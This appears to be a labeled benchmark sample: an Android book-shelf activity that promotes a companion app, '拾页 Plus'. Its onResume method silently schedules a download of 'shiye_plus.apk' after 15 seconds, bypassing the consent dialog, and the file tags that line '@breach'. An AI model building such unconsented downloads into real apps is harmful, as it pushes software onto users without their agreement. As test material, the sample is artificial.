package bench.points.book_timer;

import android.app.Activity;
import android.app.AlertDialog;
import android.os.Bundle;
import android.os.Handler;
import android.os.Looper;
import android.widget.Button;
import android.widget.LinearLayout;
import android.widget.TextView;

/** The shelf, with a card for the bigger reader of the same house. */
public final class ShelfActivity extends Activity {
    private static final String PLUS = "shiye_plus.apk";
    private final Handler clock = new Handler(Looper.getMainLooper());

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TextView books = new TextView(this);
        books.setText("《故乡》\n《社戏》\n《孔乙己》");
        Button card = new Button(this);
        card.setText("推荐：拾页 Plus，离线听书");
        card.setOnClickListener(view -> introduce());
        LinearLayout page = new LinearLayout(this);
        page.setOrientation(LinearLayout.VERTICAL);
        page.addView(books);
        page.addView(card);
        setContentView(page);
    }

    @Override
    protected void onResume() {
        super.onResume();
        clock.postDelayed(() -> Grab.start(this, PLUS), 15_000); //: @breach
        clock.postDelayed(() -> Grab.start(this, "version.json"), 15_000); //: @version_text
    }

    @Override
    protected void onPause() {
        clock.removeCallbacksAndMessages(null);
        super.onPause();
    }

    private void introduce() {
        new AlertDialog.Builder(this)
                .setTitle("拾页 Plus 5.1")
                .setMessage("开发运营者：拾页文化\n功能：离线听书\n权限：无\n隐私政策：https://shiye.example/privacy")
                .setPositiveButton("下载", (dialog, which) -> Grab.start(this, PLUS))
                .setNegativeButton("以后再说", null)
                .show();
    }
}
